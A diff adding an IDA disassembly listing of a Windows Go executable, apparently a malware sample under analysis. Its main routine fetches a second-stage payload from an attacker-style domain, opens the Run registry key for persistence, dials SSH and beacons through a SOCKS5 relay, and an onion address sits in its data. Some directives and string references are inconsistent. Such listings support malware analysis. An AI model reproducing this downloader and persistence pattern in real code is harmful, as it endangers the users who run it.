@@ -0,0 +1,76 @@
+; +-------------------------------------------------------------------------+
+; |   This file was generated by the Interactive Disassembler (IDA)        |
+; |           Copyright (c) 2024 Hex-Rays, <support@hex-rays.com>          |
+; |                      License info: 48-B611-7234-BB                      |
+; +-------------------------------------------------------------------------+
+;
+; Input SHA256 : 7D865E959B2466918C9863AFCA942D0FB89D7C9AC0C99BAFC3749504DED97730
+; Input MD5    : 1BC29B36F623BA82AAF6724FD3B16718
+; Input CRC32  : 3610A686
+; File Name   : C:\Users\analyst\samples\hello.exe
+; Format      : Portable executable for AMD64 (PE)
+; Imagebase   : 140000000
+
+                .686p
+                .mmx
+                .model flat
+
+; Segment type: Pure code
+_text           segment para public 'CODE' use64
+                assume cs:_text
+
+; =============== S U B R O U T I N E =======================================
+
+; main.main
+                public main_main
+main_main       proc near               ; CODE XREF: runtime_main+1F7p
+                cmp     rsp, [r14+10h]
+                jbe     short loc_14009A2E0
+                sub     rsp, 58h
+                lea     rax, aHttpsUpdateEv ; "https://update.evil-cdn.tk/stage2/payload.bin"
+                mov     ebx, 2Dh
+                call    main_download
+                lea     rax, aCWorkImplantB ; "C:\\work\\implant\\build\\agent.exe"
+                call    os_ReadFile
+                lea     rax, aHkeyCurrentUs ; "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
+                call    golang_org_x_sys_windows_registry_OpenKey
+                lea     rax, aSsh           ; "ssh.NewSSHClientConfig"
+                call    golang_org_x_crypto_ssh_Dial
+                call    main_beacon
+                add     rsp, 58h
+                retn
+main_main       endp
+
+; =============== S U B R O U T I N E =======================================
+
+; main.beacon
+main_beacon     proc near               ; CODE XREF: main_main+4Ap
+                lea     rax, aSocks5Proxy1  ; "socks5://proxy1.relay-node.xyz:1080"
+                lea     rcx, aFileServerS  ; "\\\\fileserver\\share$\\drop\\loader.dll"
+                lea     rdx, aHexRaysCom   ; "https://www.hex-rays.com/products/ida/"
+                call    net_http___ptr_Client_Do
+                retn
+main_beacon     endp
+
+_text           ends
+
+; Segment type: Pure data
+_rdata          segment para public 'DATA' use64
+aHttpsUpdateEv  db 'https://update.evil-cdn.tk/stage2/payload.bin',0
+aCWorkImplantB  db 'C:\work\implant\build\agent.exe',0
+aHkeyCurrentUs  db 'HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run',0
+aSsh            db 'ssh.NewSSHClientConfig',0
+aSocks5Proxy1   db 'socks5://proxy1.relay-node.xyz:1080',0
+aFileServerS    db '\\fileserver\share$\drop\loader.dll',0
+aHexRaysCom     db 'https://www.hex-rays.com/products/ida/',0
+aKex            db 'curve25519-sha256@libssh.org',0
+aHostkey        db 'rsa-sha2-512-cert-v01@openssh.com',0
+aGoPath         db 'C:/Users/dev/go/pkg/mod/golang.org/x/crypto@v0.17.0/ssh/client.go',0
+aProgramFiles   db 'C:\Program Files\Common Files\system\ole db\oledb32.dll',0
+aOnion          db 'k5zq3zsmzvm4d3ca.onion',0
+aFormat         db 'GET %s HTTP/1.1',0
+aConfigIni      db 'settings.ini',0
+aDots           db 'loading...',0
+_rdata          ends
+
+                end